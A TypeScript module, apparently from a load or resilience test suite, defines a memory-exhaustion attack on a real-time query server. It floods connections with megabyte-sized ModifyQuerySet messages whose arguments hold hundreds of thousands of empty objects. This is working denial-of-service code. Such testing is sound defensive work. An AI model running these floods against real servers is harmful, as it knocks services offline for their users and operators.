// What fills a server's memory: each attack keeps as much of something there as it can.
import type { Attack } from "./attack.ts";
import { flood, frame, greeting } from "./attack-socket.ts";

const MESSAGE_BYTES = 1024 * 1024;

/** A text of about so many bytes. */
function filled(piece: string, bytes = MESSAGE_BYTES - 4096): string {
  return piece.repeat(Math.floor(bytes / Buffer.byteLength(piece)));
}

function add(queryId: number, argument: string, rest = ""): string {
  return `{"type":"Add","queryId":${queryId},"udfPath":"liveQuizSessions:entry","args":[${argument}]${rest}}`;
}

/** The frames of one ModifyQuerySet after the other. @param modifications of the message with this number, as JSON text */
function* querySets(count: number, modifications: (version: number) => string): Iterable<Buffer> {
  yield greeting();
  for (let version = 0; version < count; version++) {
    const numbers = `"baseVersion":${version},"newVersion":${version + 1}`;
    yield frame(`{"type":"ModifyQuerySet",${numbers},"modifications":[${modifications(version)}]}`);
  }
}

const emptyObjects = filled("{},");

export const MEMORY_ATTACKS: Attack[] = [
  {
    name: "empty-objects",
    what: "subscribes to queries whose argument is a list of 340,000 empty objects, 16 times on each connection",
    run: (target) =>
      flood(target, () => querySets(16, (version) => add(version, `["x",${emptyObjects}"${version}"]`))),
  },
];
